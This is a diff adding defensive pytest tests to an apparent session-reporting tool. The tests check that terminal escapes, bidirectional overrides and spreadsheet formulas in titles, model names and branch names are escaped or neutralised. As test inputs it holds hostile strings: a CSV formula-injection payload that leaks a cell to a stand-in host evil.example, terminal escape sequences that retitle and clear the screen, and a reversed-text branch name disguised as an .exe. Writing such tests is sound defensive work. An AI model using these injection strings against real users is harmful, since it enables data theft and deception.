@@ -287,3 +287,52 @@ def test_a_terminal_that_cannot_show_a_name_gets_question_marks_not_a_half_repor
     out = proc.stdout.decode("latin-1")
     assert proc.returncode == 0, proc.stderr
     assert "mödel-?-??" in out and out.splitlines()[-1].startswith("total")
+
+
+def test_names_cannot_drive_the_terminal_in_any_table(repo):
+    """A title, model or branch holding a terminal escape (ESC, BEL, CR), a line break or a
+    bidirectional override (U+202E reverses the rest of a cell; git allows it in a branch) is
+    printed escaped in every table: the commit table printed its branch raw."""
+    append_spool(
+        repo.path,
+        session_record("ses_evil", "t\x1b]0;PWNED\x07\x1b[2J\r\u202eevil\u2066"),
+        message_record(repo.path, session_id="ses_evil", model="m\x1b[31mred\u200b"),
+    )
+    repo.git("switch", "-q", "-c", "fix-\u202egnp.exe")
+    commit(repo.path, "c1")
+    for by in ("commit", "session", "model", "branch"):
+        out = periscope("report", "--by", by, cwd=repo.path).stdout
+        assert not any(ch in out for ch in "\x1b\x07\r\u202e\u2066\u200b"), (by, out)
+        assert len(out.splitlines()) == 3, (by, out)  # header, the row, total
+    assert "fix-\\u202egnp.exe" in periscope("report", cwd=repo.path).stdout
+    assert (
+        "t\\x1b]0;PWNED\\x07\\x1b[2J\\r\\u202eevil\\u2066"
+        in periscope("report", "--by", "session", cwd=repo.path).stdout
+    )
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_a_carriage_return_stays_in_its_cell(repo):
+    """A title or branch starting with = + - @ (a spreadsheet formula: =HYPERLINK, a DDE call)
+    is written with a leading ' (OWASP's advice); model ids are kept exactly (a real one starts
+    with @).  A cell holding a bare carriage return is quoted: csv quotes only the line
+    terminator's characters, and "\\r" ended the row there for every reader."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    append_spool(
+        repo.path,
+        session_record("ses_f", evil),
+        message_record(repo.path, session_id="ses_f", model="@cf/meta/llama-3.1-8b-instruct", git={"branch": "=1+1"}),
+        session_record("ses_r", "\r=1+1"),
+        message_record(repo.path, session_id="ses_r", git={"branch": "=1+1"}),
+    )
+    repo.git("switch", "-q", "-c", "=1+1")
+    commit(repo.path, "c1")
+    cells = {}
+    for by in ("commit", "session", "model", "branch"):
+        text = periscope("report", "--by", by, "--format", "csv", cwd=repo.path).stdout
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        assert len({len(r) for r in rows}) == 1, (by, rows)  # no row cut short by a "\r"
+        cells[by] = [c for r in rows[1:] for c in r]
+    assert "'" + evil in cells["session"] and "'\r=1+1" in cells["session"]
+    assert "'=1+1" in cells["commit"] and "'=1+1" in cells["branch"]
+    assert "@cf/meta/llama-3.1-8b-instruct" in cells["model"]
+    assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for by in ("commit", "session", "branch") for c in cells[by])
